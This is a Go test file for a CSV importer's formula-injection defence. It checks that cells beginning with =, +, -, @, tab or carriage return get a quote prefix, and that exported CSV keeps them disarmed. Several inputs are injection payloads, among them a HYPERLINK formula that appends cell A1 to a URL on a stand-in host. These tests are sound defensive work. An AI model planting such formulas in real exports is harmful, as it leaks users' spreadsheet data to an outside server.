package importer_test

import (
	"bytes"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/spie-parcours/parcours/internal/importer"
)

func TestNeutralizeCSV(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Dupont", "Dupont"},
		{`=HYPERLINK("https://exemple.invalid/?d="&A1,"Cliquez")`, `'=HYPERLINK("https://exemple.invalid/?d="&A1,"Cliquez")`},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"06 12 34 56 78", "06 12 34 56 78"},
		{"a=b", "a=b"},
		{"'déjà", "'déjà"},
	}
	for _, tt := range tests {
		if got := importer.NeutralizeCSV(tt.in); got != tt.want {
			t.Errorf("NeutralizeCSV(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	header := []string{"Ligne", "Colonne", "Erreur"}
	rows := [][]string{
		{"12", "Nom", `=HYPERLINK("https://exemple.invalid/","Cliquez")`},
		{"13", "Adresse", "1; rue \"Haute\"\nBâtiment B"},
	}
	if err := importer.WriteCSV(&buf, header, rows); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	want := "\ufeffLigne;Colonne;Erreur\r\n" +
		"12;Nom;\"'=HYPERLINK(\"\"https://exemple.invalid/\"\",\"\"Cliquez\"\")\"\r\n" +
		"13;Adresse;\"1; rue \"\"Haute\"\"\r\nBâtiment B\"\r\n"
	if got := buf.String(); got != want {
		t.Errorf("WriteCSV wrote\n%q\nwant\n%q", got, want)
	}

	// What Parcours writes, Parcours reads back, formula still disarmed.
	got, err := importer.ReadCSV(&buf)
	if err != nil {
		t.Fatalf("ReadCSV: %v", err)
	}
	if !slices.Equal(got.Header, header) || got.Rows[0][2] != `'=HYPERLINK("https://exemple.invalid/","Cliquez")` {
		t.Errorf("read back %q %q", got.Header, got.Rows)
	}
}

// failWriter fails every write.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disque plein") }

func TestWriteCSVError(t *testing.T) {
	err := importer.WriteCSV(failWriter{}, []string{"a"}, nil)
	if err == nil || !strings.Contains(err.Error(), "disque plein") {
		t.Errorf("WriteCSV error = %v, want the writer's", err)
	}
}
